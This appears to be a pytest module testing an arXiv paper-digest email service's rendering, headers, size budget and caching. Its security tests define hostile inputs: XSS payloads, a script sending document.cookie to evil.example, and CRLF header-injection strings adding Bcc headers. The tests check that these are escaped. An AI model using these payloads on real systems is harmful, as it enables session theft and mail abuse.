"""The digest email: golden text and headers, MIME structure, escaping, size, and the inlining shortcut.

Golden files live in tests/digest/golden/; regenerate them after a deliberate change with
``PAPERBOY_UPDATE_GOLDEN=1 pytest tests/digest/test_emails.py`` and review the diff.
"""

from __future__ import annotations

import email
import io
import os
import re
from contextlib import redirect_stdout
from dataclasses import replace
from datetime import UTC, datetime
from email import policy
from pathlib import Path

import cssutils
import pytest
import time_machine
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from lxml import html as lxml_html

from digest.email import (
    HTML_BUDGET_BYTES,
    DigestItem,
    clean,
    digest_html_render,
    digest_message_build,
    digest_subject_render,
    digest_text_render,
    email_caches_clear,
    email_cards_warm,
    inline,
    wrap,
)
from digest.email import html as email_html
from digest.email import view as email_view
from digest.email.reference import digest_html_render_uncached
from tests.digest.email_samples import LINKS, action_url, actions_for, ada_email, corpus_email, item_make, quiet_email

GOLDEN = Path(__file__).resolve().parent / "golden"
SEND_TIME = datetime(2026, 11, 27, 6, 0, 7, tzinfo=UTC)
HOSTILE_TITLE = (
    'Attention <script>alert("t")</script> Is All\r\nBcc: victim@example.org\r\n\r\n<img src=x onerror=alert(1)>'
)
HOSTILE_AUTHOR = '"><img src=x onerror=alert(2)>'
HOSTILE_SNIPPET = (
    "We beat </p><script>document.location='https://evil.example/?c='+document.cookie</script> diffusion & co."
)


@pytest.fixture(autouse=True)
def email_settings(settings):
    settings.DEFAULT_FROM_EMAIL = "Paperboy <digest@paperboy.example>"
    settings.SITE_URL = "https://paperboy.example"
    settings.SITE_DOMAIN = "paperboy.example"
    settings.PAPERBOY_LIST_ID = "Paperboy daily digest <digest.paperboy.example>"
    settings.PAPERBOY_POSTAL_ADDRESS = "Paperboy · 1 Example Street · Springfield · hello@paperboy.example"
    return settings


def golden_check(name: str, actual: str) -> None:
    path = GOLDEN / name
    if os.environ.get("PAPERBOY_UPDATE_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_text(actual, encoding="utf-8")
    assert actual == path.read_text(encoding="utf-8"), f"{name} changed; see the module docstring to update it"


def parsed(message) -> email.message.EmailMessage:
    return email.message_from_bytes(message.message().as_bytes(), policy=policy.default)


def html_part(msg: email.message.EmailMessage) -> str:
    return msg.get_body(preferencelist=("html",)).get_content()


# --- golden files ------------------------------------------------------------------------------


def test_plain_text_part_matches_the_golden_file():
    golden_check("ada_digest.txt", digest_text_render(ada_email()))


@time_machine.travel(SEND_TIME, tick=False)
def test_headers_match_the_golden_file():
    """The header block exactly as it goes over SMTP (long values are folded, as RFC 5322 allows)."""
    raw = digest_message_build(ada_email()).message().as_bytes().decode()
    block = raw.split("\n\n", 1)[0] + "\n"
    golden_check("ada_digest.headers", re.sub(r'boundary="[^"]+"', 'boundary="<boundary>"', block))


# --- structure and headers -----------------------------------------------------------------------


@time_machine.travel(SEND_TIME, tick=False)
def test_message_is_multipart_alternative_with_the_text_part_first():
    message = digest_message_build(ada_email())
    msg = parsed(message)
    assert msg.get_content_type() == "multipart/alternative"
    parts = list(msg.iter_parts())
    assert [p.get_content_type() for p in parts] == ["text/plain", "text/html"]
    assert all(p.get_content_charset() == "utf-8" for p in parts)
    assert parts[0].get_content() == digest_text_render(ada_email())
    assert html_part(msg) == digest_html_render(ada_email())


@time_machine.travel(SEND_TIME, tick=False)
def test_bulk_sender_headers_are_present_and_well_formed():
    msg = parsed(digest_message_build(ada_email()))
    assert msg["Message-ID"] == "<digest.2026-11-27.42@paperboy.example>"
    assert msg["Date"].datetime == SEND_TIME
    assert msg["From"].addresses[0].display_name == "Paperboy"
    assert msg["From"].addresses[0].addr_spec == "digest@paperboy.example"
    assert msg["To"] == "ada@example.org"
    assert msg["List-Id"] == "Paperboy daily digest <digest.paperboy.example>"
    assert msg["List-Unsubscribe"].strip() == f"<{LINKS.unsubscribe_url}>"  # folded after the colon
    assert msg["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert msg["Subject"] == "4 new papers on diffusion, video generation"


def test_from_without_a_display_name_gets_one(settings):
    settings.DEFAULT_FROM_EMAIL = "digest@paperboy.example"
    msg = parsed(digest_message_build(ada_email()))
    assert str(msg["From"]) == "Paperboy <digest@paperboy.example>"


def test_html_styles_are_inlined_and_media_queries_kept_in_head():
    doc = lxml_html.fromstring(html_part(parsed(digest_message_build(ada_email()))))
    head_css = "".join(doc.xpath("//head/style/text()"))
    assert "@media (prefers-color-scheme: dark)" in head_css
    assert "@media (max-width: 480px)" in head_css
    assert ".hl {" not in head_css.split("@media")[0], "plain rules are inlined, not repeated in <style>"
    cards = doc.xpath("//td[contains(@class, 'card-cell')]")
    assert len(cards) == 4
    assert all("padding:20px 0" in td.get("style") for td in cards)
    marks = doc.xpath("//mark")
    assert marks and all("background-color:#fef08a" in m.get("style") for m in marks)
    assert {m.text_content().lower() for m in marks} >= {"diffusion", "video generation"}
    assert doc.xpath("//meta[@name='color-scheme']/@content") == ["light dark"]


def test_html_shows_everything_the_issue_asks_for():
    html = digest_html_render(ada_email())
    doc = lxml_html.fromstring(html)
    text = doc.text_content()
    preheader = doc.xpath("//body/div[contains(@style, 'display:none')]")[0].text_content()
    assert preheader.startswith("Sparse Diffusion Transformers for Minute-Long Video Generation · Consistency")
    assert "Friday, 27 November 2026" in text and "4 new papers for you" in text
    assert "Matched your interests: diffusion, video generation" in text
    assert "Ada Lovelace, Grace Hopper, Katherine Johnson et al." in text  # first three, then et al.
    assert "Alan Turing" not in text
    assert "cs.CV · cs.LG · ▲ 128 upvotes" in text
    titles = doc.xpath("//a[contains(@class, 'title-link')]")
    assert titles[0].get("href") == "https://arxiv.org/abs/2611.00001"
    links = [(a.text_content(), a.get("href")) for a in doc.xpath("//p[contains(@class, 'links')]/a")]
    assert ("Hugging Face", "https://huggingface.co/papers/2611.00001") in links
    assert ("PDF", "https://arxiv.org/pdf/2611.00001") in links
    footer = {a.text_content(): a.get("href") for a in doc.xpath("//a[contains(@class, 'footer-link')]")}
    assert footer == {
        "Manage preferences": LINKS.manage_url,
        "View in browser": LINKS.view_url,
        "Unsubscribe": LINKS.unsubscribe_url,
    }
    assert "because you follow diffusion, video generation, protein design" in text
    assert "1 Example Street" in text


def test_view_in_browser_page_uses_the_same_templates_without_email_only_parts():
    page = digest_html_render(ada_email(), for_browser=True)
    doc = lxml_html.fromstring(page)
    assert doc.xpath("//title/text()") == ["Paperboy · Friday, 27 November 2026"]
    assert not doc.xpath("//body/div[contains(@style, 'display:none')]"), "no preheader on the web page"
    assert "View in browser" not in page
    assert len(doc.xpath("//td[contains(@class, 'card-cell')]")) == 4
    assert page == digest_html_render_uncached(ada_email(), for_browser=True)


def test_plain_text_is_wrapped_at_72_columns_except_lone_urls(corpus_path):
    text = digest_text_render(corpus_email(corpus_path, count=12))
    for line in text.splitlines():
        assert len(line) <= 72 or re.fullmatch(r"\s*https?://\S+", line), line
    assert re.search(r"^12\. ", text, re.MULTILINE), "papers are numbered"
    assert "   Abstract: https://arxiv.org/abs/" in text


def test_weekly_digest_says_so():
    weekly = ada_email(frequency="weekly")
    assert digest_subject_render(weekly) == "This week: 4 new papers on diffusion, video generation"
    assert "4 papers from this week" in digest_text_render(weekly)


# --- subject -----------------------------------------------------------------------------------


def test_subject_names_the_count_and_top_interests_in_under_78_characters():
    interests = ("graph neural networks", "protein structure prediction", "reinforcement learning", "diffusion")
    items = tuple(replace(item, interests=interests[: 1 + n % 4]) for n, item in enumerate(ada_email().items * 3))
    subject = digest_subject_render(ada_email(items=items, interests=interests))
    assert len(subject) < 78
    assert subject.startswith("12 new papers on graph neural networks")
    assert re.search(r"\+\d more$", subject)


def test_single_paper_subject_is_singular():
    one = ada_email(items=ada_email().items[:1])
    assert digest_subject_render(one) == "1 new paper on diffusion, video generation"


# --- security ------------------------------------------------------------------------------------


def hostile_email():
    item = DigestItem(
        paper_key=666,
        title=HOSTILE_TITLE,
        url="https://arxiv.org/abs/2611.00666?x=1&y=<b>",
        pdf_url="javascript:alert(3)",
        hf_url='https://huggingface.co/papers/2611.00666" onmouseover="alert(4)',
        authors=(HOSTILE_AUTHOR, "Eve\r\nBcc: x@evil.example"),
        categories=("cs.CR<svg onload=alert(5)>",),
        snippet=HOSTILE_SNIPPET,
        snippet_spans=((HOSTILE_SNIPPET.index("diffusion"), HOSTILE_SNIPPET.index("diffusion") + 9),),
        title_spans=((0, 9),),
        interests=("diffusion\r\nX-Evil: 1",),
    )
    return ada_email(items=(item, *ada_email().items), interests=("diffusion\r\nX-Evil: 1", "<i>video</i>"))


@time_machine.travel(SEND_TIME, tick=False)
def test_hostile_titles_authors_and_abstracts_are_escaped_and_never_reach_a_header():
    message = digest_message_build(hostile_email())
    raw = message.message().as_bytes()
    msg = email.message_from_bytes(raw, policy=policy.default)
    assert msg["Bcc"] is None and msg["X-Evil"] is None
    assert "\n" not in msg["Subject"] and "\r" not in msg["Subject"]
    assert not re.search(r"[\x00-\x1f\x7f]", msg["Subject"])
    html = html_part(msg)
    doc = lxml_html.fromstring(html)
    assert not doc.xpath("//script | //img | //svg | //*[@onerror or @onload or @onmouseover]")
    assert not [a for a in doc.xpath("//a/@href") if not a.startswith(("https://", "http://"))]
    assert "&lt;script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    card = doc.xpath("//td[contains(@class, 'card-cell')]")[0]
    assert "PDF" not in card.text_content(), "a javascript: PDF link is dropped"
    hf = card.xpath(".//a[text()='Hugging Face']/@href")[0]
    assert hf == "https://huggingface.co/papers/2611.00666%22%20onmouseover=%22alert(4)"
    text = msg.get_body(preferencelist=("plain",)).get_content()
    assert 'Attention <script>alert("t")</script> Is All Bcc: victim@example.org <img' in " ".join(text.split())
    assert html == digest_html_render_uncached(hostile_email())


def test_a_paper_whose_only_url_is_javascript_is_shown_but_never_linked():
    item = replace(ada_email().items[0], url="javascript:alert(1)", pdf_url="", hf_url="data:text/html,x", actions=())
    bad = ada_email(items=(item,))
    html = digest_html_render(bad)
    doc = lxml_html.fromstring(html)
    assert doc.xpath("//h2[contains(@class, 'card-title')]")[0].text_content().startswith("Sparse Diffusion")
    assert not doc.xpath("//td[contains(@class, 'card-cell')]//a")
    assert "javascript" not in html and "data:" not in html
    assert html == digest_html_render_uncached(bad)
    assert "javascript" not in digest_text_render(bad)


@pytest.mark.parametrize(
    ("field", "value", "error"),
    [
        ("message_id", "no-brackets@paperboy.example", "message_id"),
        ("message_id", "<a@b>\r\nBcc: x@y", "message_id"),
        ("recipient", "ada@example.org\r\nBcc: x@evil.example", "recipient"),
    ],
)
def test_bad_message_id_or_recipient_is_refused(field, value, error):
    with pytest.raises(ValueError, match=error):
        digest_message_build(ada_email(**{field: value}))


def test_a_missing_unsubscribe_link_is_refused():
    with pytest.raises(ValueError, match="unsubscribe_url"):
        digest_message_build(ada_email(links=replace(LINKS, unsubscribe_url="/u/relative/")))


# --- highlights --------------------------------------------------------------------------------


def test_sloppy_spans_are_clipped_merged_and_never_break_the_html():
    item = replace(
        ada_email().items[0], snippet="deep diffusion models", snippet_spans=((5, 14), (10, 21), (40, 50), (3, 3))
    )
    html = digest_html_render(ada_email(items=(item,)))
    snippet = lxml_html.fromstring(html).xpath("//p[contains(@class, 'snippet')]")[0]
    assert [m.text for m in snippet.xpath("mark")] == ["diffusion models"]


def test_highlights_stay_on_their_words_when_whitespace_and_control_characters_are_cleaned():
    snippet = "Deep\n\n   generative \x00\tdiffusion\u202e models"
    start = snippet.index("diffusion")
    item = replace(ada_email().items[0], snippet=snippet, snippet_spans=((start, start + 9),))
    html = digest_html_render(ada_email(items=(item,)))
    p = lxml_html.fromstring(html).xpath("//p[contains(@class, 'snippet')]")[0]
    assert p.text_content().strip() == "Deep generative diffusion models"
    assert [m.text for m in p.xpath("mark")] == ["diffusion"]


# --- size --------------------------------------------------------------------------------------


def test_a_25_paper_digest_stays_under_gmails_clipping_limit(corpus_path):
    digest = corpus_email(corpus_path, count=25, suggest_last=True)
    html = digest_html_render(digest)
    size = len(html.encode())
    assert size < HTML_BUDGET_BYTES < 102 * 1024
    doc = lxml_html.fromstring(html)
    assert len(doc.xpath("//td[contains(@class, 'card-cell')]")) == 25
    assert len(doc.xpath("//p[contains(@class, 'snippet')]")) == 25, "25 papers fit with their snippets"
    raw = digest_message_build(digest).message().as_bytes()
    assert len(raw) < 102 * 1024 + len(digest_text_render(digest).encode()) + 2048


def test_an_oversized_digest_trims_snippets_then_links_the_rest_in_the_browser(corpus_path, monkeypatch):
    monkeypatch.setattr(email_html, "HTML_BUDGET_BYTES", 30_000)  # a small budget keeps the test quick
    digest = corpus_email(corpus_path, count=30, snippet_chars=1000)
    html = digest_html_render(digest)
    assert len(html.encode()) <= 30_000
    doc = lxml_html.fromstring(html)
    shown = len(doc.xpath("//td[contains(@class, 'card-cell')]"))
    assert 0 < shown < 30
    assert not doc.xpath("//p[contains(@class, 'snippet')]"), "snippets go before papers do"
    more = doc.xpath("//td[contains(@class, 'more')]/a")[0]
    assert more.get("href") == LINKS.view_url
    assert more.text_content() == f"…and {30 - shown} more papers: open the full digest in your browser"
    assert html == digest_html_render_uncached(digest)
    page = lxml_html.fromstring(digest_html_render(digest, for_browser=True))
    assert len(page.xpath("//td[contains(@class, 'card-cell')]")) == 30, "the browser page has them all"


def test_a_slightly_long_digest_only_shortens_its_snippets(corpus_path, monkeypatch):
    digest = corpus_email(corpus_path, count=14, snippet_chars=1000)
    shortened = email_html.html_fast(email_view.view_make(digest, snippet_limit=240))[0]
    monkeypatch.setattr(email_html, "HTML_BUDGET_BYTES", len(shortened.encode()))
    html = digest_html_render(digest)
    assert html == shortened
    doc = lxml_html.fromstring(html)
    snippets = doc.xpath("//p[contains(@class, 'snippet')]")
    assert len(snippets) == 14
    assert max(len(p.text_content().strip()) for p in snippets) <= 241
    assert not doc.xpath("//td[contains(@class, 'more')]")


# --- the inlining shortcut -----------------------------------------------------------------------


def test_cached_inlining_equals_premailer_on_the_whole_email(corpus_path):
    email_caches_clear()
    for digest in (
        ada_email(),
        ada_email(items=()),  # no cards at all: the cards loop leaves no blank line behind either
        corpus_email(corpus_path, count=10, suggest_last=True),
        corpus_email(corpus_path, count=10, start=5),
    ):
        assert digest_html_render(digest) == digest_html_render_uncached(digest)
        assert digest_html_render(digest, for_browser=True) == digest_html_render_uncached(digest, for_browser=True)
    # Ada's 4 cards, the first corpus digest's 10, and of the second's 10 only its 5 new papers and paper 9
    # (no longer "suggested"): its papers 5-8 reuse the cards inlined for the first.
    assert inline.CARDS.misses == 4 + 10 + 6, "the second corpus digest reuses cards from the first"


def test_a_card_is_inlined_once_and_reused_by_other_subscribers():
    email_caches_clear()
    digest_html_render(ada_email())
    misses = inline.CARDS.misses
    # Bo's feedback links are signed for Bo: they fill a slot, the inlined card is the same.
    items = tuple(replace(i, actions=actions_for(7, i.paper_key, term="video", author="Bo")) for i in ada_email().items)
    other = ada_email(
        recipient="bo@example.org", interests=("video generation",), message_id="<x@paperboy.example>", items=items
    )
    html = digest_html_render(other)
    assert inline.CARDS.misses == misses
    assert action_url(7, 1, "more") in html and action_url(42, 1, "more") not in html


def test_a_shared_card_keeps_each_subscribers_own_links_and_number():
    """One cleaned card serves every reader whose item shows the same; links and numbering stay their own."""
    shared = ada_email().items[0]
    fillers = tuple(replace(ada_email().items[1], paper_key=100 + k, actions=()) for k in range(9))
    readers = [
        ada_email(),  # the card first, with Ada's links
        ada_email(
            recipient="bo@example.org",
            items=(fillers[0], replace(shared, actions=actions_for(7, 1, term="x", author="Bo"))),
        ),
        ada_email(recipient="cy@example.org", items=(replace(shared, actions=()),)),  # no links at all
        ada_email(
            recipient="di@example.org",
            items=(*fillers, replace(shared, actions=actions_for(9, 1, term="y", author="Di"))),
        ),
    ]
    together = [(digest_text_render(r), digest_html_render(r)) for r in readers]
    for reader, (text, html) in zip(readers, together, strict=True):
        email_caches_clear()  # each alone, nothing shared
        assert (text, html) == (digest_text_render(reader), digest_html_render(reader))
        assert html == digest_html_render_uncached(reader)
    assert action_url(7, 1, "more") in together[1][1] and action_url(42, 1, "more") not in together[1][1]
    assert "\n2. Sparse Diffusion" in together[1][0] and "\n10. Sparse Diffusion" in together[3][0]
    assert "More like this" not in together[2][0] + together[2][1]


def test_warming_a_chunk_inlines_all_its_cards_in_one_premailer_run_with_the_same_result(corpus_path):
    email_caches_clear()
    chunk = [corpus_email(corpus_path, count=10, start=start) for start in (0, 5, 20)]
    assert email_cards_warm(chunk) == 25
    assert inline.CARDS.premailer_runs == 1
    for digest in chunk:
        assert digest_html_render(digest) == digest_html_render_uncached(digest)
    assert inline.CARDS.premailer_runs == 1, "rendering found every card already inlined"


HOSTILE_TEXT = st.text(
    alphabet=st.sampled_from(
        [
            *"ab <>&\"'`=/\\;:{}#%?",
            "\r",
            "\n",
            "\t",
            "\x00",
            "\x0b",
            "\xa0",
            "é",
            "—",
            "\u202e",
            "😀",
            "\u2028",
            "\ufeff",
            "…",
        ]
    ),
    max_size=40,
)


@hsettings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    title=HOSTILE_TEXT,
    snippet=HOSTILE_TEXT,
    author=HOSTILE_TEXT,
    interest=HOSTILE_TEXT,
    recipient_local=st.from_regex(r"[a-z0-9.'+]{1,12}", fullmatch=True),
    spans=st.lists(st.tuples(st.integers(-3, 45), st.integers(-3, 45)), max_size=4),
    url_tail=HOSTILE_TEXT,
    action_label=HOSTILE_TEXT,
    near_miss=HOSTILE_TEXT,
    kind=st.sampled_from(["digest", "quiet"]),
)
def test_any_text_renders_the_same_as_premailer_on_the_whole_email(
    title, snippet, author, interest, recipient_local, spans, url_tail, action_label, near_miss, kind
):
    item = item_make(1, title, snippet, terms=(), interests=(interest,), authors=(author, "B"), hf=True)
    item = replace(
        item,
        title_spans=tuple(spans),
        snippet_spans=tuple(spans),
        url=f"https://arxiv.org/abs/{url_tail}",
        popularity=len(title),
        actions=((action_label, f"https://pb.example/f/{url_tail}"), ("Less like this", f"http://pb.example/{title}")),
        near_miss=near_miss,
    )
    digest = ada_email(items=(item,), recipient=f"{recipient_local}@example.org", interests=(interest, "x"), kind=kind)
    assert digest_html_render(digest) == digest_html_render_uncached(digest)
    html, size = email_html.html_fast(email_view.view_make(digest))
    assert size == len(html.encode()), "the size budget is checked on a size summed from the pieces"


def test_the_fast_path_sums_the_exact_utf8_size_of_what_it_assembles(corpus_path):
    """The size budget is checked without encoding the HTML, so the summed size must be the real one."""
    wide = replace(
        ada_email().items[0],
        title="Ünïcödé — “quotes” 😀 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        actions=(("Mute “😀”", action_url(1, 1, "mute")), ("Follow Émile Borel", action_url(1, 1, "f"))),
        near_miss="Almost — 😀",
    )
    for digest in (
        ada_email(),
        ada_email(items=()),
        ada_email(items=(wide, *ada_email().items), interests=("é", "😀")),
        quiet_email(),
        corpus_email(corpus_path, count=25, with_actions=True, suggest_last=True),
    ):
        for options in ({}, {"for_browser": True}, {"snippet_limit": 0, "max_cards": 2, "with_actions": False}):
            html, size = email_html.html_fast(email_view.view_make(digest, **options))
            assert size == len(html.encode())


def test_two_placeholders_in_one_tag_are_both_escaped_as_attributes():
    slot = inline.slot
    prepared = inline.Prepared(f'<p>{slot("a")}</p><a href="{slot("b")}" title="{slot("c")}">x</a>', "abc", html=True)
    filled = prepared.fill({"a": 'say "hi" <b>', "b": "https://e.org/?q=1&r=2", "c": '"><script>'})
    assert (
        filled == '<p>say "hi" &lt;b&gt;</p><a href="https://e.org/?q=1&amp;r=2" title="&quot;&gt;&lt;script&gt;">x</a>'
    )


def test_stylesheet_selectors_are_context_free():
    """Per-card inlining is exact only if no selector depends on an element's surroundings."""
    sheet = cssutils.parseString((inline.TEMPLATE_DIR / "digest.css").read_text(), validate=False)
    for rule in sheet.cssRules:
        if rule.type == rule.STYLE_RULE:
            for selector in rule.selectorList:
                assert re.fullmatch(r"[a-z0-9]*(\.[a-z-]+)*(:hover)?", selector.selectorText), selector.selectorText


# --- benchmark smoke ---------------------------------------------------------------------------


def test_render_benchmark_runs_and_prints_its_result_line():
    from benchmarks import render

    out = io.StringIO()
    with redirect_stdout(out):
        render.main(
            ["--subscribers", "20", "--papers", "3", "--pool", "4", "--seconds", "0.02", "--premailer-emails", "1"]
        )
    last = out.getvalue().strip().splitlines()[-1]
    match = re.fullmatch(r"RESULT emails_per_s=([0-9.]+) premailer_each_per_s=([0-9.]+)", last)
    assert match and float(match[1]) > 0 and float(match[2]) > 0


# --- the fast paths agree with the simple ones ------------------------------------------------------


@given(st.text(alphabet=st.sampled_from([*"ab  c", "\n", "\t", "\x00", "\xa0", "\u2028", "\x85", "\x9f"]), max_size=30))
def test_run_based_cleaning_agrees_with_the_per_character_cleaner(text):
    fast, newpos = clean.clean_mapped(text)
    slow, slow_pos = clean._clean_per_char(text)
    assert fast == slow == clean.display_text(text)
    assert [newpos(p) for p in range(len(text) + 1)] == slow_pos


@given(
    st.lists(st.sampled_from(["a", "bb", "word", "é—", "x" * 70, "https://example.org/" + "y" * 80]), max_size=40),
    st.sampled_from([("", ""), ("   ", "   "), ("12. ", "    ")]),
)
def test_regex_wrapping_agrees_with_word_by_word_wrapping(words, indents):
    text = " ".join(words)
    first, rest = indents
    assert wrap.wrap.__wrapped__(text, first, rest) == wrap._wrap_words(text, first, rest, 72)


# --- feedback links (issue 9) ----------------------------------------------------------------------


def card_actions(card) -> list[tuple[str, str]]:
    return [(a.text_content(), a.get("href")) for a in card.xpath(".//p[contains(@class, 'actions')]/a")]


def test_every_card_carries_its_feedback_links_in_both_parts():
    digest = ada_email()
    doc = lxml_html.fromstring(digest_html_render(digest))
    cards = doc.xpath("//td[contains(@class, 'card-cell')]")
    assert [card_actions(card) for card in cards] == [list(item.actions) for item in digest.items]
    assert card_actions(cards[0])[2] == ('Mute "diffusion"', action_url(42, 1, "mute:diffusion"))
    style = cards[0].xpath(".//a[contains(@class, 'action')]")[0].get("style")
    assert "color:#6b7280" in style, "small grey links, not the blue of the paper's own links"
    text = digest_text_render(digest)
    for item in digest.items:
        for label, url in item.actions:
            assert f"   {label}:\n     {url}\n" in text + "\n", "label on its line, the long URL indented below"


def test_a_short_feedback_link_stays_on_one_text_line():
    item = replace(ada_email().items[0], actions=(("More like this", "https://pb.example/f/x/"),))
    assert "\n   More like this: https://pb.example/f/x/\n" in digest_text_render(ada_email(items=(item,))) + "\n"


def test_hostile_feedback_labels_are_escaped_and_non_http_links_are_left_out():
    actions = (
        ('Mute "<script>alert(1)</script>"', "https://pb.example/f/1/?a=1&b=2"),
        ("Follow \r\nBcc: x@evil.example", 'https://pb.example/f/2/" onclick="alert(2)'),
        ("Less like this", "javascript:alert(3)"),
        ("Data", "data:text/html,<script>alert(4)</script>"),
        ("Relative", "/f/5/"),
        ("", "https://pb.example/f/6/"),  # no label: nothing to click
    )
    item = replace(ada_email().items[0], actions=actions)
    digest = ada_email(items=(item,))
    html = digest_html_render(digest)
    doc = lxml_html.fromstring(html)
    assert not doc.xpath("//script | //*[@onclick]")
    assert card_actions(doc.xpath("//td[contains(@class, 'card-cell')]")[0]) == [
        ('Mute "<script>alert(1)</script>"', "https://pb.example/f/1/?a=1&b=2"),
        ("Follow Bcc: x@evil.example", "https://pb.example/f/2/%22%20onclick=%22alert(2)"),
    ]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "javascript" not in html and "data:" not in html and "/f/5/" not in html and "/f/6/" not in html
    text = digest_text_render(digest)
    assert "Less like this" not in text and "javascript" not in text and "Relative" not in text
    assert "Follow Bcc: x@evil.example: https://pb.example/f/2/%22%20onclick=%22alert(2)" in " ".join(text.split())
    assert html == digest_html_render_uncached(digest)
    msg = parsed(digest_message_build(digest))
    assert msg["Bcc"] is None


def test_feedback_links_render_the_same_as_premailer_on_the_whole_email(corpus_path):
    email_caches_clear()
    for digest in (ada_email(), corpus_email(corpus_path, count=10, start=3, with_actions=True, suggest_last=True)):
        assert digest_html_render(digest) == digest_html_render_uncached(digest)
        assert digest_html_render(digest, for_browser=True) == digest_html_render_uncached(digest, for_browser=True)


def test_25_papers_with_four_feedback_links_each_stay_under_gmails_clipping_limit(corpus_path):
    digest = corpus_email(corpus_path, count=25, suggest_last=True, with_actions=True)
    assert all(len(url) > 120 for item in digest.items for _label, url in item.actions), "signed-URL lengths"
    html = digest_html_render(digest)
    assert len(html.encode()) < HTML_BUDGET_BYTES < 102 * 1024
    doc = lxml_html.fromstring(html)
    assert len(doc.xpath("//td[contains(@class, 'card-cell')]")) == 25
    assert len(doc.xpath("//p[contains(@class, 'snippet')]")) == 25, "full snippets still fit"
    assert len(doc.xpath("//a[contains(@class, 'action')]")) == 100, "and every feedback link"


def test_over_budget_feedback_links_go_after_snippets_are_shortened_and_before_snippets_go(corpus_path, monkeypatch):
    digest = corpus_email(corpus_path, count=14, snippet_chars=1000, with_actions=True)
    shortest = email_html.html_fast(email_view.view_make(digest, snippet_limit=150))[0]
    without_links = email_html.html_fast(email_view.view_make(digest, snippet_limit=150, with_actions=False))[0]
    assert len(without_links) < len(shortest)
    monkeypatch.setattr(email_html, "HTML_BUDGET_BYTES", len(without_links.encode()))
    html = digest_html_render(digest)
    assert html == without_links
    doc = lxml_html.fromstring(html)
    assert len(doc.xpath("//p[contains(@class, 'snippet')]")) == 14
    assert not doc.xpath("//p[contains(@class, 'actions')]")
    assert html == digest_html_render_uncached(digest)
    page = lxml_html.fromstring(digest_html_render(digest, for_browser=True))
    assert len(page.xpath("//a[contains(@class, 'action')]")) == 14 * 4, "the browser page keeps them"
    assert digest_text_render(digest).count("More like this:") == 14, "the text part has no budget"


# --- quiet-day note (issue 9) ------------------------------------------------------------------------


def test_quiet_day_plain_text_matches_the_golden_file():
    golden_check("ada_quiet.txt", digest_text_render(quiet_email()))


@time_machine.travel(SEND_TIME, tick=False)
def test_quiet_day_headers_match_the_golden_file():
    raw = digest_message_build(quiet_email()).message().as_bytes().decode()
    block = raw.split("\n\n", 1)[0] + "\n"
    golden_check("ada_quiet.headers", re.sub(r'boundary="[^"]+"', 'boundary="<boundary>"', block))


@pytest.mark.parametrize(
    ("count", "frequency", "subject"),
    [
        (3, "daily", "No new matches today — 3 near misses"),
        (1, "daily", "No new matches today — 1 near miss"),
        (0, "daily", "No new matches today"),
        (2, "weekly", "No new matches this week — 2 near misses"),
    ],
)
def test_quiet_day_subject_counts_the_near_misses(count, frequency, subject):
    note = quiet_email(items=quiet_email().items[:count] if count <= 3 else (), frequency=frequency)
    assert digest_subject_render(note) == subject
    assert len(subject) < 78 and not re.search(r"[\x00-\x1f\x7f]", subject)


@time_machine.travel(SEND_TIME, tick=False)
def test_quiet_day_note_says_nothing_matched_and_names_each_near_miss():
    note = quiet_email()
    msg = parsed(digest_message_build(note))
    assert msg["Subject"] == "No new matches today — 3 near misses"
    assert msg["List-Unsubscribe"].strip() == f"<{LINKS.unsubscribe_url}>"
    assert msg["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert msg["List-Id"] == "Paperboy daily digest <digest.paperboy.example>"
    assert msg["Message-ID"] == "<quiet.2026-11-27.42@paperboy.example>"
    parts = list(msg.iter_parts())
    assert [p.get_content_type() for p in parts] == ["text/plain", "text/html"]
    doc = lxml_html.fromstring(html_part(msg))
    assert doc.xpath("//h1")[0].text_content() == "Nothing new matched your interests today"
    assert "The 3 nearest misses" in doc.xpath("//p[contains(@class, 'matched')]")[0].text_content()
    cards = doc.xpath("//td[contains(@class, 'card-cell')]")
    assert [c.xpath(".//p[contains(@class, 'near-miss')]")[0].text_content() for c in cards] == [
        i.near_miss for i in note.items
    ]
    assert not doc.xpath("//p[contains(@class, 'why')]"), "the near miss takes the why line's place"
    assert all(len(card_actions(c)) == 4 for c in cards), "feedback links on near misses too"
    preheader = doc.xpath("//body/div[contains(@style, 'display:none')]")[0].text_content()
    assert preheader.startswith("Nothing matched. Nearest: Reasoning Traces")
    footer = {a.text_content(): a.get("href") for a in doc.xpath("//a[contains(@class, 'footer-link')]")}
    assert footer == {
        "Manage preferences": LINKS.manage_url,
        "View in browser": LINKS.view_url,
        "Unsubscribe": LINKS.unsubscribe_url,
    }
    footer_text = doc.xpath("//td[contains(@class, 'footer')]")[0].text_content()
    assert "Turn them off under Manage preferences" in footer_text and "1 Example Street" in footer_text
    text = parts[0].get_content()
    assert text.startswith("Paperboy · Friday, 27 November 2026\n\nNothing new matched your interests today\n")
    for item in note.items:
        assert item.near_miss in " ".join(text.split())
    assert "Unsubscribe: " + LINKS.unsubscribe_url in text
    assert "Turn them off under Manage preferences." in " ".join(text.split())


def test_quiet_day_note_renders_the_same_as_premailer_on_the_whole_email(monkeypatch):
    note = quiet_email()
    assert digest_html_render(note) == digest_html_render_uncached(note)
    empty = quiet_email(items=())
    assert "Nothing came close either." in digest_html_render(empty)
    assert digest_html_render(empty) == digest_html_render_uncached(empty)
    bare = email_html.html_fast(email_view.view_make(note, snippet_limit=0, with_actions=False))[0]
    monkeypatch.setattr(email_html, "HTML_BUDGET_BYTES", len(bare.encode()) - 1)  # a paper has to go
    trimmed = digest_html_render(note)
    assert "more near miss" in trimmed and trimmed == digest_html_render_uncached(note)
    monkeypatch.undo()
    page = digest_html_render(note, for_browser=True)
    assert page == digest_html_render_uncached(note, for_browser=True)
    assert "Nothing new matched your interests today" in page


def test_hostile_near_miss_text_is_escaped_and_never_reaches_a_header():
    hostile = 'Almost matched "<img src=x onerror=alert(1)>":\r\nBcc: x@evil.example no "video"'
    item = replace(quiet_email().items[0], near_miss=hostile)
    note = quiet_email(items=(item,), interests=("<b>video</b>\r\nX-Evil: 1",))
    msg = parsed(digest_message_build(note))
    assert msg["Bcc"] is None and msg["X-Evil"] is None
